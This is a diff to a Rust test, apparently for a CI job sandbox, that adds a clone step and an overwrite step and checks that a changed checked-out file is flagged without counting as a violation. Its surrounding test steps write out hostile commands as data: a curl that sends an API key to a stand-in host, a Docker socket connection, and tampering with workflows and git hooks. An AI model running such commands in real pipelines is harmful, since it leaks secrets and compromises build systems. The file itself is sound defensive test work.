@@ -174,7 +174,9 @@ fn block_mode_fences_every_later_step_by_name_and_cannot_be_switched_off() {
         "exfil:curl -sS --max-time 10 -H \"x-api-key: $STEP_main_ANTHROPIC_API_KEY\" https://a.wild.test/ ; true",
         "engine:python3 -c \"import socket; s = socket.socket(socket.AF_UNIX); s.connect('/run/docker.sock'); print(s.recv(16))\"",
         "checkout:cd \"$GITHUB_WORKSPACE\" && mkdir -p .github/workflows .git/hooks && echo 'on: push' > .github/workflows/ci.yml && echo '#!/bin/sh' > .git/hooks/pre-commit && echo '[core]' > .git/config",
+        "clone:git init -q /tmp/origin && cd /tmp/origin && echo hi > a.txt && git add a.txt && git -c user.email=ci@example.test -c user.name=ci commit -qm x && git clone -q /tmp/origin \"$GITHUB_WORKSPACE/app\"",
         "settle:sleep 3",
+        "overwrite:cd \"$GITHUB_WORKSPACE\" && python3 -c \"open('app/a.txt', 'a').write('changed')\"",
         "tamperwf:cd \"$GITHUB_WORKSPACE\" && echo 'on: pull_request_target' >> .github/workflows/ci.yml",
         "tamperhook:cd \"$GITHUB_WORKSPACE\" && printf '#!/bin/sh\\ncurl evil' > .git/hooks/post-checkout",
         "renamegh:cd \"$GITHUB_WORKSPACE\" && mv .github .github-old",
@@ -240,6 +242,12 @@ fn block_mode_fences_every_later_step_by_name_and_cannot_be_switched_off() {
     );
     let inbound = job.stdout.lines().find_map(|l| l.strip_prefix("INBOUND ")).unwrap_or_default();
     assert!(inbound.starts_with("refused"), "a connection from outside into the job is refused: {inbound}");
+    assert_eq!(job.step("clone"), Some(0), "{}", out("clone"));
+    let flagged = job.events().any(|e| {
+        matches!(e, Event::FileWrite(w) if w.path.ends_with("app/a.txt") && !w.violation
+            && w.rule.as_deref().is_some_and(|r| r.starts_with("job.source_overwritten") && r.contains("python3")))
+    });
+    assert!(flagged, "a checked-out file changed by another program is flagged, not a violation");
     assert_eq!(job.step("failing"), Some(7));
     assert_eq!(
         job.step("post"),
